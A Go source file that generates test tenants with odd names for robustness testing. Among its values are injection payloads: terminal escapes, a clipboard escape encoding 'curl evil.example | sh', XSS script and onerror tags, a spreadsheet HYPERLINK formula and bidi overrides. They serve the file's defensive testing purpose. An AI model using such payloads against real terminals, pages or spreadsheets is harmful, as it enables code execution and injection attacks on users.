package simulator

import (
	"fmt"
	"strings"
)

// oddity is what is odd about a tenant.
type oddity uint8

const (
	ordinary oddity = iota
	oddNoName
	oddNoDomain
	oddNothing
	oddManyDomains
	oddANSI
	oddClipboard
	oddNewline
	oddBidi
	oddZeroWidth
	oddLong
	oddHTML
	oddFormula
	oddities // their number
)

const (
	// oddEvery is how rare odd tenants are after the cast: one in so many.
	oddEvery    = 211
	longName    = 10_000 // runes
	manyDomains = 300
)

// odds are what each oddity is in words, and what makes an ordinary tenant so.
var odds = [oddities]struct {
	words string
	twist func(*Truth)
}{
	ordinary:       {"", func(*Truth) {}},
	oddNoName:      {"no name", func(t *Truth) { t.Name = "" }},
	oddNoDomain:    {"no domain", func(t *Truth) { t.Domain, t.Domains = "", nil }},
	oddNothing:     {"nothing but an id", func(t *Truth) { *t = Truth{ID: t.ID} }},
	oddManyDomains: {"hundreds of domains", addDomains},
	oddANSI: {"ANSI escapes in its name", func(t *Truth) {
		first, rest, _ := strings.Cut(t.Name, " ")
		t.Name = first + " \x1b[2J\x1b[31m" + rest + "\x1b[0m\x1b]0;pwned\a\u009b5m"
	}},
	oddClipboard: {"a clipboard escape in its name", func(t *Truth) { t.Name += "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a" }},
	oddNewline:   {"line breaks in its name", func(t *Truth) { t.Name = strings.Replace(t.Name, " ", "\r\n", 1) + "\n\u2028\t\x00" + "(2)" }},
	oddBidi:      {"bidirectional overrides in its name", func(t *Truth) { t.Name = "\u202e" + t.Name + "\u202c \u2066(\u2069" }},
	oddZeroWidth: {"zero-width characters in its name", func(t *Truth) { t.Name = strings.Replace(t.Name, "a", "\u200ba\u200d\ufeff\u2060", 1) + "\u00ad" }},
	oddLong: {"a name of ten thousand characters", func(t *Truth) {
		t.Name += " " + strings.Repeat("and Partners ", longName/len("and Partners ")+1)
		t.Name = string([]rune(t.Name)[:longName])
	}},
	oddHTML: {"HTML in its name", func(t *Truth) {
		t.Name = `<b>` + t.Name + `</b><script>alert("1")</script>&amp;<img src=x onerror=alert(1)>`
	}},
	oddFormula: {"a spreadsheet formula for a name", func(t *Truth) { t.Name = `=HYPERLINK("https://evil.example";"` + t.Name + `")` }},
}

func addDomains(t *Truth) {
	stem, _, _ := strings.Cut(t.Domain, ".")
	for i := range manyDomains {
		t.Domains = append(t.Domains, fmt.Sprintf("%s-site%03d.example", stem, i+1))
	}
}

// String returns what is odd, in words.
func (o oddity) String() string { return odds[o].words }

// twist makes an ordinary tenant odd.
func (o oddity) twist(t *Truth) {
	odds[o].twist(t)
	t.Oddity = o.String()
}
